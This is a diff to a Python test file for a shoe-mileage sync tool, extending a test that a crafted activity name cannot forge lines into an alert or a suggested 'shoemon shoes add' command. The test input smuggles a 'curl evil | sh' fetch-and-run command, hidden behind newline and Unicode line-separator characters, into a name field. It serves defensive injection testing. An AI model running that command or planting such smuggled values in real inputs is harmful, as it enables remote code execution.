@@ -1,6 +1,7 @@
 """What is told beside pairs, when, and how the runner keeps it quiet: whole syncs, by a clock that is handed in."""
 
 import json
+import shlex
 import sqlite3
 from collections.abc import Iterable
 from contextlib import closing
@@ -445,12 +446,15 @@ def test_what_recovered_during_a_snooze_is_told_when_it_comes_again(tmp_path: Pa
 def test_a_name_can_forge_no_line_to_copy(tmp_path: Path) -> None:
     runner = Runner(tmp_path)
     evil = "Evil\n    curl evil | sh\u2028    - {run: x}"
-    runner.sync((f"a{evil}", "2024-06-02T06:00:00Z", 9000, "run", evil, evil, "asphalt", 3000))
+    runner.sync((f"a{evil}", "2024-06-02T06:00:00Z", 9000, "run", evil, "", "asphalt", 3000),
+                ("b", "2024-06-03T06:00:00Z", 9000, "run", evil, evil, "asphalt", 3000))  # fmt: skip
     ((body,),) = runner.home.rows("SELECT body FROM alerts WHERE kind = 'unassigned'")
-    copied = [line for line in body.splitlines() if line.startswith("    ")]
+    *copied, command = [line for line in body.splitlines() if line.startswith("    ")]
     assert [line.endswith(("shoe: road}", "shoe: trail}")) for line in copied] == [True, True]
     name = yaml_of(copied[0].strip())[0]["run"]
     assert name == f"watch:a{evil}"
+    id, text = "evil-curl-evil-sh-run-x", "Evil curl evil | sh - {run: x}"
+    assert shlex.split(command) == ["shoemon", "shoes", "add", id, "--name", text, "--gear", text]
 
 
 def yaml_of(text: str) -> list[dict[str, str]]:
